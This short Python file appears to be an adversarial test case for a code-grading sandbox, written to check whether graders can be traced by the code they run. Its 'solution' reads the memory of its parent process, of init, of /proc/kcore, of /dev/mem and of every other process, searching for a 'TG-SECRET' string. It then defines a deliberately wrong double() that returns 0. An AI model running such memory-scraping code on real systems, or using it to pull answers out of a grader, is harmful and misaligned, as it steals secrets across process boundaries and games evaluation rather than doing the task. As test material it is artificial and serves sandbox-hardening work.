"""Opens the memory of its parent, of the first process and of every other."""
# falls: graders whose user may trace them
# expect: double=0
# says: TRIED

# %% double-solution
import glob
import os
import re

for _path in {f"/proc/{os.getppid()}/mem", "/proc/1/mem", "/proc/kcore", "/dev/mem", *glob.glob("/proc/[0-9]*/mem")}:
    if _path == f"/proc/{os.getpid()}/mem":
        continue
    try:
        with open(_path, "rb") as _memory, open(_path[:-3] + "maps") as _maps:
            for _line in _maps:
                _begin, _end = (int(part, 16) for part in _line.split()[0].split("-"))
                _memory.seek(_begin)
                print(re.findall(rb"TG-" + rb"SECRET[ -~]*", _memory.read(_end - _begin)))
    except (OSError, ValueError):
        pass
print("TRI" + "ED")


def double(x):
    return 0
